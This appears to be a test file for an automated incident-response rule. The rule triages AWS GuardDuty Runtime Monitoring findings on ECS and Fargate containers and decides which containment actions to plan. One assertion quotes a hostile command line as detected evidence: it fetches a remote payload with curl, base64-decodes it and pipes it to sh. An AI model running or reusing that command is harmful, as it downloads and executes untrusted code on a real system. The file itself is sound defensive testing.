# Scenario tests of rule runtime_threat: GuardDuty Runtime Monitoring
# findings on containers, planned without facts (as `-facts {}` plans
# them). A container's host is contained where GuardDuty names one; on
# Fargate there is none, and the finding is only reported.

run "reverse_shell_in_an_ecs_container_contains_its_host" {
  finding = "testdata/findings/runtime_ecs_reverse_shell.json"

  expect {
    verdict = "malicious"
    rules   = ["runtime_threat"]
    # The host, an auto scaling group member (its tag says so), is
    # protected, detached, isolated and snapshotted; not stopped: without
    # triage the confidence is 0.80.
    actions = [
      "action.protect[\"i-0c4d5e6f7a8b90123\"]",
      "action.tag[\"i-0c4d5e6f7a8b90123\"]",
      "action.detach[\"i-0c4d5e6f7a8b90123\"]",
      "action.isolate[\"i-0c4d5e6f7a8b90123\"]",
      "action.snapshot[\"i-0c4d5e6f7a8b90123\"]",
      "action.notify[\"i-0c4d5e6f7a8b90123\"]",
    ]
  }

  assert {
    condition     = finding.resource.type == "aws_instance" && finding.resource.details.container.name == "api"
    error_message = "the host is the finding's resource, with the container in its details"
  }

  assert {
    condition     = contains(plan.incidents[0].verdicts[0].reasons, "GuardDuty Runtime Monitoring: a process handed a shell to a network connection (a reverse shell): bash (pid 61834, user app, /usr/bin/bash), talking to address 203.0.113.140")
    error_message = "the verdict cites the process and the address GuardDuty saw"
  }

  assert {
    condition     = anytrue([for r in plan.incidents[0].verdicts[0].reasons : strcontains(r, "of ECS task 7c3e9a1f5b2d4e6f8a0b1c2d3e4f5a6b, ECS service payments-api, ECS cluster payments on instance i-0c4d5e6f7a8b90123")])
    error_message = "the verdict says which task, service and cluster the container belongs to"
  }

  assert {
    condition     = strcontains(plan.incidents[0].actions[5].reasons[0], "not stopped: confidence 0.80 is below 0.90")
    error_message = "the notification says why the host is left running"
  }
}

run "fargate_task_is_reported" {
  finding = "testdata/findings/runtime_fargate_suspicious_command.json"

  expect {
    verdict = "suspicious"
    rules   = ["runtime_threat"]
    actions = ["action.notify[\"web-fargate\"]"]
  }

  assert {
    condition     = anytrue([for r in plan.incidents[0].verdicts[0].reasons : startswith(r, "no host to examine or contain: container storefront")])
    error_message = "the verdict says there is no host to contain, and what to do by hand"
  }

  assert {
    condition     = contains(plan.incidents[0].verdicts[0].reasons, "GuardDuty Runtime Monitoring recorded the command line: sh -c 'curl -s http://198.51.100.14/k | base64 -d | sh'")
    error_message = "the verdict cites the command GuardDuty saw"
  }
}

# GuardDuty's "Generate sample findings" writes findings like this one on
# made-up resources: judged like any other, only notified.
run "sample_finding_only_notifies" {
  finding = "testdata/findings/runtime_ecs_reverse_shell_sample.json"

  expect {
    verdict = "malicious"
    rules   = ["runtime_threat"]
    actions = ["action.notify[\"i-0c4d5e6f7a8b90123\"]"]
  }

  assert {
    condition     = finding.sample && length(plan.incidents[0].withheld) == 5 && alltrue([for w in plan.incidents[0].withheld : strcontains(w.reason, "sample finding")])
    error_message = "every action that would change the host is withheld because the finding is a sample"
  }
}
